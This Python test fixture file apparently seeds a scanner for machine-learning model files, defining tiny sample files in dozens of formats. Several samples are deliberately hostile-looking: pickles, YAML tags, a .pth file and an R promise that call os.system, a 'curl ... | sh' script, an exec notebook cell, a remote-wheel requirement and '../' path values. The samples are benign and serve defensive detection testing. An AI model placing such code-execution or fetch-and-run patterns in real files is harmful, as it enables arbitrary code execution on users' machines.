"""One small genuine file of many formats, to be broken by tests that ask every inspector about everything."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import zlib

from tests.builders.archives import RAR, SEVENZIP
from tests.builders.boosters import LEAVES, catboost, lightgbm, ubj, xgboost
from tests.builders.bundles import index_bytes
from tests.builders.coremls import custom, manifest, network, weights
from tests.builders.flatbuffers import tflite
from tests.builders.ggufs import model as gguf_model
from tests.builders.graphs import graph_bytes, keras_metadata
from tests.builders.hdf5s import hdf5, text
from tests.builders.joblibs import array, dumped
from tests.builders.keras_models import built, keras_zip, lambda_code, sequential
from tests.builders.lz4s import stored
from tests.builders.msgpacks import array as flax_array
from tests.builders.msgpacks import mapping
from tests.builders.mxnets import array as mxnet_array
from tests.builders.mxnets import operator, params
from tests.builders.mxnets import symbol as mxnet_symbol
from tests.builders.numpys import npy, npz
from tests.builders.onnxs import onnx_bytes, ort, ort_node, raw
from tests.builders.onnxs import tensor as onnx_tensor
from tests.builders.opcodes import call, pickled
from tests.builders.rs import call as r_call
from tests.builders.rs import closure, formula, promise, rds, reals, strings, symbol, vector
from tests.builders.safetensors import model_bytes
from tests.builders.schemas import node, schema, settings
from tests.builders.tars import Item, tar_bytes
from tests.builders.tokenizers import sentencepiece, tokenizer_json
from tests.builders.torches import distributed, torch_legacy, torch_tar, torch_zip
from tests.builders.zips import zip_bytes

TEXT = b"# A model\n\nIt does things.\n"
POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)


def zstd(content: bytes) -> bytes:
    """A frame of one raw block, below 256 bytes (RFC 8878, sections 3.1.1.1 and 3.1.1.2)."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(content)]) + (len(content) << 3 | 1).to_bytes(3, "little") + content


def png() -> bytes:
    """One black pixel."""
    chunks = ((b"IHDR", b"\0\0\0\1\0\0\0\1\1\0\0\0\0"), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big") for kind, data in chunks
    )


SEEDS: dict[str, bytes] = {
    "README.md": TEXT,
    "labels.xml": b'<?xml version="1.0"?>\n<annotation/>\n',
    "graph.xml": b'<net name="m" version="11"><layer type="A" version="x"/><layer type="Const"><data/></layer></net>',
    "model.pmml": b'<PMML version="4.4"><Apply function="mine"/></PMML>',
    ".zarray": b'{"zarr_format": 2, "shape": [2], "chunks": [1], "dtype": "|O", "filters": [{"id": "pickle"}]}',
    "zarr.json": b'{"zarr_format": 3, "shape": [2], "codecs": [{"name": "mine"}]}',
    "manifest.ocdbt": b"\x0c\xdb\x3a\x2a" + (20).to_bytes(8, "little") + bytes(8),
    "model.ort": ort(nodes=[ort_node("Mine", "my.company"), ort_node("Relu")]),
    "net-0000.params": params(mxnet_array(4, values=bytes(16)), names=["w"]),
    "net-symbol.json": json.dumps(mxnet_symbol(operator("Custom", attrs={"op_type": "mine"}))).encode(),
    "model.engine": b"ftrt" + bytes(60),
    "config.pbtxt": b'backend: "python"\ndefault_model_filename: "../x"\nmax_batch_size: 8\n',
    "empty.bin": b"",
    "zeros.bin": bytes(64),
    "config.json": b'{"architectures": ["BertModel"], "auto_map": {"AutoModel": "modeling.Model"}}',
    "modeling.py": b"import os\nimport torch\n\n\nclass Model(torch.nn.Module):\n    pass\n\n\nos.system('true')\n",
    "chat_template.jinja": b"{{ bos_token }}{% for m in messages %}{{ m['content']|trim }}{% endfor %}",
    "model.gguf": gguf_model("{{ bos_token }}{% for m in messages %}{{ m['content']|trim }}{% endfor %}"),
    "config.yaml": b"model:\n  _target_: os.system\n  command: !!python/name:os.system ''\n",
    "config.cfg": b'[nlp]\nlang = "en"\n\n[components.x]\nfactory = "x"\n@architectures = "x.Net.v1"\n',
    "behavior.yaml": b"behavior: 1\nnot_for: [medical triage]\n",
    "requirements.txt": b"torch\nx @ http://127.0.0.1/x.whl\n",
    "start.pth": b"import os; os.system('true')\n",
    "run.sh": b"#!/bin/sh\ncurl -s https://example.org | sh\n",
    "train.ipynb": b'{"cells": [{"cell_type": "code", "source": ["import os\\n", "exec(x)"]}], "nbformat": 4}',
    "tokenizer.json": tokenizer_json(),
    "tokenizer.model": sentencepiece(),
    "model.safetensors.index.json": b'{"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}',
    "model.safetensors": model_bytes(),
    "model.pkl": pickled(call("posix", "system", "true")),
    "model.bin": torch_zip(),
    "legacy.pt": torch_legacy(),
    "oldest.pt": torch_tar(),
    "__0_0.distcp": distributed(),
    "saved_model.pb": graph_bytes(),
    "variables.index": index_bytes(),
    "model.tflite": tflite(),
    "graph.pbtxt": b'node { name: "x" op: "ReadFile" }',
    "keras_metadata.pb": keras_metadata('{"class_name": "Dense", "config": {"units": 1}}'),
    "model.onnx": onnx_bytes(),
    "input_0.pb": onnx_tensor([2], raw(1, 2)),
    "model.keras": keras_zip(sequential(built("Lambda", {"function": lambda_code()})), weights=b""),
    "model.mlmodel": network(custom("Mine")),
    "manifest.json": manifest("../x"),
    "weight.bin": weights(bytes(64)),
    "model.txt": lightgbm(LEAVES),
    "model.cbm": catboost(),
    "model.ubj": ubj(xgboost()),
    "model.rds": rds(vector(reals(1, 2), closure(reals(), r_call("f")), formula(symbol("x")))),
    "promise.rds": rds(promise(r_call("system", strings("true")))),
    "weights.h5": hdf5(text(b"keras_version", b"2.15.0")),
    "flax_model.msgpack": mapping(params=mapping(kernel=flax_array(bytes(24), 2, 3))),
    "model.pte": b"\x1c\0\0\0ET12" + bytes(24),
    "model.joblib": dumped(array(bytes(24), (3,), padding=11)),
    "data": settings(policy_class=pickled(call("posix", "system", "true"))),
    "schema.json": schema(node("FunctionNode", "os", "system")),
    "array.npy": npy(),
    "arrays.npz": npz(a=npy()),
    "files.zip": zip_bytes((b"a.txt", TEXT), (b"b.json", b"{}")),
    "files.tar": tar_bytes(Item(b"a.txt", TEXT), Item(b"b.json", b"{}")),
    "files.7z": SEVENZIP,
    "files.rar": RAR,
    "text.gz": gzip.compress(TEXT, mtime=0),
    "text.bz2": bz2.compress(TEXT),
    "text.lzma": lzma.compress(TEXT, lzma.FORMAT_ALONE),
    "text.zst": zstd(TEXT),
    "picture.png": png(),
    "program.so": ELF,
    "pointer.bin": POINTER,
    "text.lz4": stored(TEXT),
    "text.xz": lzma.compress(TEXT),
    "text.zlib": zlib.compress(TEXT),
}
"""File name to content."""
